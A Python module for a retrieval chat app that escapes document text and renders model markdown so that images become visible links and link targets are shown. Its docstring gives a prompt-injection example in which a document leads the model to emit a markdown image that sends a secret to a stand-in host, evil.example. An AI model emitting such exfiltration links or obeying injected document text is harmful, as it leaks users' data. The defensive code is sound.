"""Chat messages as safe HTML. The chat shows HTML as given (its own markdown rendering is off), so
what reaches the browser is decided here: text from documents (extractive answers, quotes) and the
user's question are escaped and shown as text; a model's answer keeps its markdown formatting, but
raw HTML in it is shown as text, images become a link showing their URL (nothing is fetched until a
click), and every link shows its real target. A document that talks the model into writing
``![x](https://evil.example/?q=secret)`` therefore cannot make the page send anything anywhere."""

from __future__ import annotations

import html
from functools import cache

SHOWN_URL_CHARS = 120
LINK_ATTRS = ' target="_blank" rel="noopener noreferrer nofollow"'


def text_html(text: str) -> str:
    """Plain text as HTML: every character shown as itself, line breaks kept."""
    return html.escape(text).replace("\n", "<br>\n")


def model_html(markdown: str) -> str:
    """A model's markdown answer as HTML that loads nothing and hides no link target."""
    return _renderer().render(markdown)


def _shown_url(url: str) -> str:
    return url if len(url) <= SHOWN_URL_CHARS else url[: SHOWN_URL_CHARS - 1] + "…"


def _image(self, tokens, idx, options, env) -> str:
    """An image as a link that shows where it points; no <img>, so the browser fetches nothing."""
    token = tokens[idx]
    src, alt = token.attrGet("src") or "", token.content or "image"
    shown = html.escape(f"[image: {alt}] {_shown_url(src)}")
    return f'<a href="{html.escape(src)}"{LINK_ATTRS}>{shown}</a>'


def _link_open(self, tokens, idx, options, env) -> str:
    return f'<a href="{html.escape(tokens[idx].attrGet("href") or "")}"{LINK_ATTRS}>'


def _link_close(self, tokens, idx, options, env) -> str:
    """Close the link and, when its text is not its URL, show the URL after it."""
    start = next(i for i in range(idx - 1, -1, -1) if tokens[i].type == "link_open")
    href = tokens[start].attrGet("href") or ""
    text = "".join(t.content for t in tokens[start + 1 : idx])
    if text.strip() in (href, href.removeprefix("mailto:")):
        return "</a>"
    return f'</a> <span class="rag-link-target">({html.escape(_shown_url(href))})</span>'


@cache
def _renderer():
    from markdown_it import MarkdownIt

    # html=False: raw HTML in the answer is escaped, i.e. shown as text; breaks: a newline is a line break
    md = MarkdownIt("commonmark", {"html": False, "breaks": True}).enable(["table", "strikethrough"])
    md.add_render_rule("image", _image)
    md.add_render_rule("link_open", _link_open)
    md.add_render_rule("link_close", _link_close)
    return md
